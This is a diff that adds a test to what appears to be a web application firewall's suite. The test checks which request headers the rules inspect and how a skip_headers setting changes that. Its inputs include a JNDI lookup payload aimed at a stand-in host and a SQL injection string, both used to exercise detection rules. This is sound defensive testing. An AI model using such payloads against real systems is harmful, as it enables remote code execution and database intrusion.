@@ -644,3 +644,31 @@ t.test('a coded body without a declared length is judged once the body is known 
     ['proto-173'],
   );
 });
+
+t.test('skip_headers: a listed header is not inspected, unless a rule names it; others are', async (t) => {
+  const jndi = '${jndi:ldap://evil.example/a}';
+  const sqli = "1' or '1'='1";
+  const ids = (e: Engine, headers: Record<string, string>) =>
+    inspectHead(e, headOf({ method: 'GET', target: '/api/receipts', headers: { ...H, ...headers } }).head)
+      .map((m) => `${m.ruleId} ${m.target}`)
+      .sort();
+  const e = engineFromConfig(config(), process.cwd());
+  // authorization is in the default list; a custom header is read by the rules on every header
+  t.same(ids(e, { Authorization: jndi }), []);
+  t.same(ids(e, { 'X-Trace': jndi }), ['rce-160 header:x-trace']);
+  // rules that name a header read it (user-agent), and only there (not x-trace)
+  t.same(ids(e, { 'User-Agent': sqli }), ['sqli-100 header:user-agent']);
+  t.same(ids(e, { 'X-Trace': sqli }), []);
+  const custom = engineFromConfig(config({ skip_headers: ['X-Trace', 'user-agent'] }), process.cwd());
+  t.same(ids(custom, { 'X-Trace': jndi }), [], 'listed in any case');
+  t.same(
+    ids(custom, { Authorization: jndi }),
+    ['rce-160 header:authorization'],
+    'the list replaces the default',
+  );
+  t.same(
+    ids(custom, { 'User-Agent': `${sqli} ${jndi}` }).length > 0,
+    true,
+    'a rule naming the header still reads it',
+  );
+});
